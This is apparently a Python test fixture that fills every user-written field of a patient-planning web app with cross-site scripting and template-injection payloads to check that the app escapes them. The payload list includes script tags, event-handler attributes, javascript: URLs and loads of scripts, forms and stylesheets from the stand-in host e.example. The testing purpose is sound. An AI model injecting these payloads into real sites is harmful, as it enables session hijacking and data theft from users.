"""A world in which every text that somebody wrote is an attack: in people, sites, vehicles, plans, accounts and reasons."""

from __future__ import annotations

from dataclasses import fields, replace
from itertools import count
from pathlib import Path
from typing import Any

import facts_case
import incident_world
import pytest
import web_world
from web_world import NOW, World, make_world

from planner.actions import accounts, breaking_glass, clients
from planner.actions.accounts import Reach
from planner.actions.actor import Deed, Role, at_the_command_line
from planner.actions.breaking_glass import Asked
from planner.documents.facts import PlanFacts
from planner.model.patient import Identity

#: Stands in each payload, so that it is known wherever it turns up.
MARK = "PWN"
PAYLOADS = tuple(
    payload.replace("1)", f"'{MARK}')").replace("§", MARK)
    for payload in (
        "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>",
        "<script/src=//e.example/§>", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)//",
        '"><img src=x onerror=alert(1)>', "'><svg onload=alert(1)>", "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x>",
        "<math><mi xlink:href=javascript:alert(1)>", "<iframe src=javascript:alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
        "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1)>§</a>", "javascript:alert(1)",
        "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "data:text/html,<script>alert(1)</script>",
        "<base href=//e.example/§>", "<meta http-equiv=refresh content='0;url=//e.example/§'>",
        "<link rel=stylesheet href=//e.example/§>", "<style>@import '//e.example/§'</style>",
        "<div style=background:url(//e.example/§)>", "<form action=//e.example/§><button>§",
        "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<body onload=alert(1)>",
        "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>§", "' onmouseover='alert(1)",
        '" autofocus onfocus="alert(1)', "--><script>alert(1)</script>", "]]><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>", "</title><script>alert(1)</script>", "{{ 7*191 }}§{% if 1 %}",
        "${7*191}§`alert(1)`", "\\u003cscript\\u003ealert(1)§", "＜script＞alert(1)§", "<!--<script>§",
    )
)  # fmt: skip
#: What people write themselves; everything else in a record is a code, a number or a moment.
WRITTEN = frozenset(
    {"name", "address", "town", "phone", "relative_name", "relative_phone", "access", "housing_type", "notes", "contact"}
    | {"base_name", "confirmed_by", "refuelling", "vehicle_entrance", "mailbox", "location_number", "contact_name"}
    | {"scenario_name", "by"}
)  # fmt: skip
_turn = count()


def payload() -> str:
    """The next one."""
    return PAYLOADS[next(_turn) % len(PAYLOADS)]


def poisoned(thing: Any) -> Any:
    """The record with an attack in each text that somebody wrote."""
    written = [one.name for one in fields(thing) if one.name in WRITTEN and isinstance(getattr(thing, one.name), str)]
    return replace(thing, **{name: payload() for name in written})


def poisoned_facts(facts: PlanFacts) -> PlanFacts:
    """A plan's documents, all of them."""
    plan = replace(poisoned(facts.plan), made=poisoned(facts.plan.made))
    return replace(
        facts,
        plan=plan,
        people={ref: poisoned(one) for ref, one in facts.people.items()},
        sites={key: poisoned(one) for key, one in facts.sites.items()},
        vehicles={key: poisoned(one) for key, one in facts.vehicles.items()},
        municipalities=dict.fromkeys(facts.municipalities, payload()),
        municipality_phones=dict.fromkeys(facts.municipality_phones, payload()),
    )


def make_poisoned_world(home: Path) -> World:
    """As make_world, after every writer was an attacker."""
    plain = facts_case.some_facts
    patch = pytest.MonkeyPatch()
    for module in (web_world, incident_world):
        patch.setattr(module, "some_facts", lambda **given: poisoned_facts(plain(**given)))
    patch.setattr(web_world, "SCENARIO", web_world.SCENARIO.replace('name = "{name}"', f"name = '''{PAYLOADS[6]}'''"))
    world = make_world(home, lambda: NOW, registered=True)
    patch.undo()
    app, boss = world.app, at_the_command_line(PAYLOADS[0])
    with app.store.transaction() as tx:
        people = tx.patients.all()
        tx.patients.upsert_many([replace(one, identity=_poisoned_identity(one.identity)) for one in people], "Ilt Vest")
        tx.sites.upsert_many([poisoned(one) for one in tx.sites.all()])
        tx.vehicles.upsert_many([poisoned(one) for one in tx.vehicles.all()])
        tx.municipalities.upsert_many([poisoned(one) for one in tx.municipalities.all()[:40]])
    accounts.invite_user(app, boss, "x@example.dk", payload(), Reach(frozenset({Role.AUDITOR})))
    clients.add_client(app, boss, clients.Wish(PAYLOADS[4], Role.PLANNER, frozenset({Deed.SEE_PLANS})))
    lead = accounts.actor_of(app, world.token("lead"))
    assert lead is not None
    breaking_glass.break_glass(app, lead, Asked("", "0661", PAYLOADS[4] + " lang nok", 1))
    return world


def _poisoned_identity(identity: Identity) -> Identity:
    address = identity.address
    texts = {"street": payload(), "town": payload()}
    return replace(poisoned(identity), address=replace(address, **texts) if address else None)
